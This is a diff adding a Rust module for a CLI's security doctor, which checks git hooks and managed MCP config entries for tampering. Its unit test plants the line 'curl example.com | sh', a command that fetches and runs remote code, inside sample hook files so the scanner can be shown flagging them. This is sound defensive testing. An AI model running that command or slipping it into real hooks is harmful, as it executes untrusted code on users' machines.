@@ -0,0 +1,323 @@
+//! Tampering checks for `sqrl doctor --security` (CLI-012).
+//!
+//! Git hooks run on every commit and push, and MCP entries launch a program
+//! whenever a tool starts, so both are worth checking against what Squirrel
+//! wrote: hook sections by hash against the scripts embedded in this binary,
+//! and line by line, so a command slipped between the markers fails whatever
+//! version the section claims; managed MCP entries (MANAGED-001) by hash and
+//! by the program they run.
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use serde::Serialize;
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+
+use crate::cli::apply::{self, Launch};
+use crate::cli::hooks;
+use crate::error::Error;
+use crate::global_config::managed::{self, DriftKind, Manifest};
+use crate::global_config::GlobalConfig;
+
+/// How serious a finding is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    /// Worth a look, e.g. another tool's commands in a hook.
+    Warn,
+    /// Not what Squirrel wrote; fails the doctor.
+    Fail,
+}
+
+/// One problem found.
+#[derive(Debug, Clone, Serialize)]
+pub struct Finding {
+    /// `hook`, `mcp` or `path`.
+    pub kind: &'static str,
+    /// Hook name, MCP name and tool, or `sqrl`.
+    pub name: String,
+    pub severity: Severity,
+    pub message: String,
+}
+
+impl Finding {
+    fn new(kind: &'static str, name: String, severity: Severity, message: String) -> Self {
+        Self {
+            kind,
+            name,
+            severity,
+            message,
+        }
+    }
+}
+
+/// Check installed hooks, managed MCP entries and the `sqrl` on PATH.
+pub fn scan(project_root: &Path) -> Result<Vec<Finding>, Error> {
+    let mut findings = scan_hooks(&project_root.join(".git").join("hooks"));
+    findings.extend(scan_managed(&Manifest::load()?));
+    findings.extend(scan_path());
+    Ok(findings)
+}
+
+/// Squirrel sections of installed hooks against the embedded scripts.
+fn scan_hooks(hooks_dir: &Path) -> Vec<Finding> {
+    let mut findings = Vec::new();
+    for hook in hooks::HOOK_NAMES {
+        let path = hooks_dir.join(hook);
+        let Ok(content) = fs::read_to_string(&path) else {
+            continue;
+        };
+        if !content.contains("Squirrel") {
+            continue;
+        }
+        let mut finding = |severity, message| {
+            findings.push(Finding::new("hook", hook.to_string(), severity, message));
+        };
+
+        let installed = hooks::squirrel_section(&content);
+        let known = hooks::scripts(hook)
+            .iter()
+            .any(|script| sha256(&hooks::squirrel_section(script)) == sha256(&installed));
+        let version = hooks::installed_version(&content);
+        let unexpected = unexpected_lines(hook, &content, &installed);
+        if !unexpected.is_empty() {
+            finding(
+                Severity::Fail,
+                format!(
+                    "Squirrel section has lines no Squirrel script writes (sha256 {}): {}",
+                    short_hash(&installed),
+                    unexpected.join("; ")
+                ),
+            );
+        } else if !known && version >= hooks::HOOK_VERSION {
+            finding(
+                Severity::Fail,
+                format!(
+                    "Squirrel section differs from the version {} script (sha256 {}); \
+                     rewrite it with 'sqrl hook upgrade' after checking it",
+                    version,
+                    short_hash(&installed)
+                ),
+            );
+        } else if !known {
+            finding(
+                Severity::Warn,
+                format!(
+                    "version {} script, not one this sqrl embeds; run 'sqrl hook upgrade'",
+                    version
+                ),
+            );
+        }
+
+        let others: Vec<&str> = content
+            .lines()
+            .map(str::trim)
+            .filter(|line| !line.is_empty() && !line.starts_with('#'))
+            .filter(|line| !installed.lines().any(|ours| ours.trim() == *line))
+            .collect();
+        if !others.is_empty() {
+            finding(
+                Severity::Warn,
+                format!(
+                    "also runs commands Squirrel didn't write: {}",
+                    others.join("; ")
+                ),
+            );
+        }
+
+        if let Ok(metadata) = fs::metadata(&path) {
+            if metadata.permissions().mode() & 0o022 != 0 {
+                finding(
+                    Severity::Fail,
+                    format!(
+                        "writable by other users (mode {:o}); run 'chmod go-w {}'",
+                        metadata.permissions().mode() & 0o777,
+                        path.display()
+                    ),
+                );
+            }
+        }
+    }
+    findings
+}
+
+/// Lines of a marked Squirrel section (`installed`) that none of the
+/// scripts for `hook` has, apart from the version line. Unmarked sections
+/// from older versions are only what Squirrel's own lines look like, so they
+/// have none.
+fn unexpected_lines(hook: &str, content: &str, installed: &str) -> Vec<String> {
+    if !hooks::has_markers(content) {
+        return Vec::new();
+    }
+    installed
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && hooks::installed_version(line) == 1)
+        .filter(|line| !hooks::RETIRED_LINES.contains(line))
+        .filter(|line| {
+            !hooks::scripts(hook)
+                .iter()
+                .any(|script| script.lines().any(|ours| ours.trim() == *line))
+        })
+        .map(str::to_string)
+        .collect()
+}
+
+/// Managed MCP entries against their fingerprint and `~/.sqrl/mcps/`.
+fn scan_managed(manifest: &Manifest) -> Vec<Finding> {
+    let mut findings = Vec::new();
+    for entry in &manifest.entries {
+        let drift = entry.drift();
+        if drift == Some(DriftKind::Removed) {
+            continue;
+        }
+        let name = format!("{} ({})", entry.name, entry.tool);
+        let location = format!("{}#{}", entry.file.display(), entry.pointer);
+        let actual = managed::read_pointer(&entry.file, &entry.pointer)
+            .as_ref()
+            .and_then(target);
+        let expected = GlobalConfig::get_mcp(&entry.name)
+            .ok()
+            .and_then(|mcp| apply::launch(&mcp).ok())
+            .map(|launch| match launch {
+                Launch::Command { command, .. } => command.into_iter().next().unwrap_or_default(),
+                Launch::Remote { url, .. } => url,
+            });
+
+        let message = match (&actual, &expected) {
+            (Some(actual), Some(expected)) if actual != expected => Some((
+                if drift == Some(DriftKind::Modified) {
+                    Severity::Fail
+                } else {
+                    Severity::Warn
+                },
+                format!(
+                    "runs '{}', but ~/.sqrl/mcps/{}.json gives '{}' ({}); \
+                     run 'sqrl apply' if you changed the config",
+                    actual, entry.name, expected, location
+                ),
+            )),
+            (_, None) if !GlobalConfig::mcp_path(&entry.name).is_ok_and(|p| p.exists()) => Some((
+                Severity::Fail,
+                format!(
+                    "no MCP config named '{}' in ~/.sqrl/mcps/, yet Squirrel manages it ({})",
+                    entry.name, location
+                ),
+            )),
+            _ if drift == Some(DriftKind::Modified) => Some((
+                Severity::Fail,
+                format!(
+                    "edited since 'sqrl apply' (fingerprint differs) in {}",
+                    location
+                ),
+            )),
+            _ => None,
+        };
+        if let Some((severity, message)) = message {
+            findings.push(Finding::new("mcp", name, severity, message));
+        }
+    }
+    findings
+}
+
+/// Program (or URL) a tool config entry launches.
+fn target(entry: &Value) -> Option<String> {
+    entry
+        .get("command")
+        .or_else(|| entry.get("url"))
+        .or_else(|| entry.pointer("/transport/url"))
+        .and_then(Value::as_str)
+        .map(str::to_string)
+}
+
+/// Which `sqrl` the hooks and `mcp-exec` entries run, by PATH lookup.
+fn scan_path() -> Vec<Finding> {
+    let on_path = std::env::var_os("PATH").and_then(|paths| {
+        std::env::split_paths(&paths)
+            .map(|dir| dir.join("sqrl"))
+            .find(|path| path.is_file())
+    });
+    let Some(on_path) = on_path else {
+        return vec![Finding::new(
+            "path",
+            "sqrl".to_string(),
+            Severity::Warn,
+            "no sqrl on PATH; hooks and mcp-exec entries can't run".to_string(),
+        )];
+    };
+    let this = std::env::current_exe().and_then(|p| p.canonicalize()).ok();
+    if on_path.canonicalize().ok() == this {
+        return Vec::new();
+    }
+    vec![Finding::new(
+        "path",
+        "sqrl".to_string(),
+        Severity::Warn,
+        format!(
+            "hooks run {}, not this binary ({})",
+            on_path.display(),
+            this.map(|p| p.display().to_string()).unwrap_or_default()
+        ),
+    )]
+}
+
+fn sha256(text: &str) -> String {
+    Sha256::digest(text.as_bytes())
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+fn short_hash(text: &str) -> String {
+    sha256(text)[..12].to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_scan_hooks_flags_edited_section() {
+        let dir = TempDir::new().unwrap();
+        let hooks_dir = dir.path();
+        let post_commit = hooks::scripts("post-commit")[0];
+        fs::write(
+            hooks_dir.join("post-commit"),
+            format!("#!/bin/sh\nrun-linter\n\n{}", post_commit),
+        )
+        .unwrap();
+        fs::write(
+            hooks_dir.join("pre-push"),
+            hooks::scripts("pre-push")[0].replace("|| exit 1", "; curl example.com | sh"),
+        )
+        .unwrap();
+        // Claiming an older version doesn't excuse a command inside the markers
+        let post_checkout = hooks::scripts("post-checkout")[0]
+            .replace(&format!("version {}", hooks::HOOK_VERSION), "version 2");
+        fs::write(
+            hooks_dir.join("post-checkout"),
+            post_checkout.replace("# END", "curl example.com | sh\n# END"),
+        )
+        .unwrap();
+        for hook in ["post-commit", "pre-push", "post-checkout"] {
+            let path = hooks_dir.join(hook);
+            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+        }
+
+        let findings: Vec<(String, Severity)> = scan_hooks(hooks_dir)
+            .into_iter()
+            .map(|f| (f.name, f.severity))
+            .collect();
+        assert_eq!(
+            findings,
+            [
+                ("pre-push".to_string(), Severity::Fail),
+                ("post-commit".to_string(), Severity::Warn),
+                ("post-checkout".to_string(), Severity::Fail),
+            ]
+        );
+    }
+}